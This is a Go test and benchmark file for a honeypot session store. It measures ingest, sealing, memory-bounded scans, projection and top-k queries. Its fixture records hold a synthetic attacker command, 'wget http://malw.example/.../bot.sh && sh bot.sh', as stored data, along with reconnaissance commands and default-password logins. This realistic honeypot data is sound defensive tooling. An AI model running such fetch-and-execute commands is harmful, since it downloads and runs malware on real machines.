package store

import (
	"fmt"
	"runtime"
	"runtime/debug"
	"sort"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
)

// benchRecord builds records sized like real honeypot sessions (a few
// hundred bytes of JSON).
func benchRecord(i int) *session.Record {
	start := time.Date(2021, time.Month(5+(i%12)), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 13 * time.Second)
	return &session.Record{
		ID:         uint64(i),
		Start:      start,
		End:        start.Add(40 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("45.%d.%d.%d", i%200, (i/200)%250, i%250),
		ClientPort: 30000 + i%20000,
		Protocol:   session.ProtoSSH,
		Logins: []session.LoginAttempt{
			{Username: "root", Password: "123456", Success: false},
			{Username: "root", Password: "admin", Success: true},
		},
		Commands: []session.Command{
			{Raw: "uname -a; cat /proc/cpuinfo | grep model | wc -l", Known: true},
			{Raw: fmt.Sprintf("wget http://malw.example/%d/bot.sh && sh bot.sh", i%977), Known: true},
		},
		StateChanged: i%3 == 0,
	}
}

// BenchmarkStoreIngest measures append throughput through the WAL with
// periodic sealing, reporting records/s.
func BenchmarkStoreIngest(b *testing.B) {
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: 8 << 20, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, 4096)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		if err := s.Append(recs[i%len(recs)]); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if el := time.Since(start).Seconds(); el > 0 {
		b.ReportMetric(float64(b.N)/el, "recs/s")
	}
}

// BenchmarkStoreScanMonth scans one sealed month via the streaming
// cursor and reports peak heap growth over the scan. The acceptance
// property: the peak is bounded by the block size (one compressed block
// plus its payload resident at a time), not by the dataset size —
// scanning 4x the data must not take 4x the memory.
func BenchmarkStoreScanMonth(b *testing.B) {
	const n = 20000
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}
	month := s.Months()[0]

	// Sample heap growth from a sibling goroutine while scans run. The
	// sample cadence is coarse, but block-bounded scanning stays within
	// a few MB where materializing the month would show tens.
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var peak atomic.Uint64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		var ms runtime.MemStats
		for {
			select {
			case <-stop:
				return
			default:
				runtime.ReadMemStats(&ms)
				if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak.Load() {
					peak.Store(g)
				}
				time.Sleep(200 * time.Microsecond) // ReadMemStats stops the world
			}
		}
	}()

	b.ResetTimer()
	var total int
	for i := 0; i < b.N; i++ {
		res, err := s.RunQuery(&Query{Where: inMonth(month)})
		if err != nil {
			b.Fatal(err)
		}
		for res.Next() {
			total += len(res.Record().ClientIP)
		}
		if err := res.Err(); err != nil {
			b.Fatal(err)
		}
		res.Close()
	}
	b.StopTimer()
	close(stop)
	<-sampled
	if total == 0 {
		b.Fatal("scan yielded nothing")
	}
	b.ReportMetric(float64(peak.Load()), "peak-bytes")
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// BenchmarkStoreSeal measures the seal path in isolation: framing a
// WAL tail into blocks, compressing them across SealWorkers, and
// committing the manifest. One iteration seals a fresh 32k-record tail
// (roughly one 16 MiB auto-seal unit), so the per-seal fsyncs are
// amortized the way production sealing amortizes them.
func BenchmarkStoreSeal(b *testing.B) {
	const n = 32768
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, n)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		for _, r := range recs {
			if err := s.Append(r); err != nil {
				b.Fatal(err)
			}
		}
		b.StartTimer()
		if err := s.Seal(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// TestScanMemoryBounded is the non-benchmark form of the acceptance
// criterion: peak heap growth during a streaming scan must be a small
// fraction of the materialized dataset size.
func TestScanMemoryBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("memory-profile test")
	}
	const n = 30000
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 128 << 10})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	// Keep GC pacing tight so short-lived decode garbage cannot mimic a
	// materialization leak: growth reflects live cursor state, not pacing.
	old := debug.SetGCPercent(10)
	defer debug.SetGCPercent(old)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	cur, err := s.RunQuery(&Query{})
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	var peak uint64
	var ms runtime.MemStats
	for cur.Next() {
		count++
		if count%2000 == 0 {
			runtime.ReadMemStats(&ms)
			if ms.HeapAlloc > before.HeapAlloc && ms.HeapAlloc-before.HeapAlloc > peak {
				peak = ms.HeapAlloc - before.HeapAlloc
			}
		}
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	if count != n {
		t.Fatalf("scanned %d records, want %d", count, n)
	}
	// ~30k records at ~400B JSON each is >10 MB materialized. A
	// block-bounded scan with 128 KiB blocks plus GC slack should stay
	// far under half of that; 6 MB is a generous ceiling that still
	// fails hard if the cursor starts materializing segments.
	if peak > 6<<20 {
		t.Fatalf("scan peak heap growth %d bytes exceeds block-bounded ceiling", peak)
	}
}

// BenchmarkQueryProjectionColumnar: a narrow projection (ip, start) over
// one sealed month. The reader touches only the projected columns'
// stripes at the byte level.
func BenchmarkQueryProjectionColumnar(b *testing.B) {
	const n = 30000
	s, err := Open(b.TempDir(), Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}
	q := &Query{
		Where:  inMonth(s.Months()[0]),
		Select: []Field{FieldIP, FieldStart},
	}
	rows := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := s.RunQuery(q)
		if err != nil {
			b.Fatal(err)
		}
		for res.Next() {
			if res.Record().ClientIP != "" {
				rows++
			}
		}
		if err := res.Err(); err != nil {
			b.Fatal(err)
		}
		res.Close()
	}
	b.StopTimer()
	if rows != b.N*n/12 { // benchRecord round-robins twelve months
		b.Fatalf("projected %d rows, want %d", rows, b.N*n/12)
	}
	b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "v3-recs/s")
}

// BenchmarkStreamLoad drains the streaming cursor over a 50k-record
// store and reports its peak live heap: O(open blocks), not O(store).
func BenchmarkStreamLoad(b *testing.B) {
	const n = 50000
	dir := b.TempDir()
	// Records round-robin all twelve months, so the seq merge keeps
	// every month's segment open at once; modest blocks keep the
	// stream's resident set to what the merge actually needs.
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 64 << 10})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}

	b.Run("stream", func(b *testing.B) {
		// The peak metric is peak LIVE heap: sampled every n/8 records
		// mid-drain, while the merge's open segments are resident, after a
		// forced collection, so floating garbage — a product of the pacer
		// and the allocation rate, not of what the code under test holds —
		// never lands in a sample.
		runtime.GC()
		var base runtime.MemStats
		runtime.ReadMemStats(&base)
		var peak uint64
		sample := func() {
			runtime.GC()
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak {
				peak = g
			}
		}
		b.ResetTimer()
		total := 0
		for i := 0; i < b.N; i++ {
			c := s.Stream()
			count := 0
			for c.Next() {
				count++
				if count%(n/8) == 0 {
					sample()
				}
			}
			if err := c.Err(); err != nil {
				b.Fatal(err)
			}
			c.Close()
			total += count
		}
		b.StopTimer()
		if total != n*b.N {
			b.Fatalf("drained %d records, want %d", total, n*b.N)
		}
		b.ReportMetric(float64(peak), "peak-bytes")
		b.ReportMetric(float64(total)/b.Elapsed().Seconds(), "recs/s")
	})
}

// BenchmarkOrderByLimitPushdown compares the pushed-down bounded top-k
// heap against the client-side equivalent (drain everything, full
// sort, truncate) for a top-20-by-port query over the whole store.
func BenchmarkOrderByLimitPushdown(b *testing.B) {
	const n, k = 30000, 20
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}

	b.Run("heap", func(b *testing.B) {
		q := &Query{OrderBy: FieldPort, Desc: true, Limit: k}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := s.RunQuery(q)
			if err != nil {
				b.Fatal(err)
			}
			rows := 0
			for res.Next() {
				rows++
			}
			if err := res.Err(); err != nil {
				b.Fatal(err)
			}
			res.Close()
			if rows != k {
				b.Fatalf("got %d rows, want %d", rows, k)
			}
		}
		b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
	})
	b.Run("clientsort", func(b *testing.B) {
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := s.RunQuery(&Query{})
			if err != nil {
				b.Fatal(err)
			}
			var all []*session.Record
			for res.Next() {
				all = append(all, res.Record())
			}
			if err := res.Err(); err != nil {
				b.Fatal(err)
			}
			res.Close()
			sort.Slice(all, func(i, j int) bool { return all[i].ClientPort > all[j].ClientPort })
			if len(all) < k {
				b.Fatalf("got %d rows", len(all))
			}
		}
		b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
	})
}
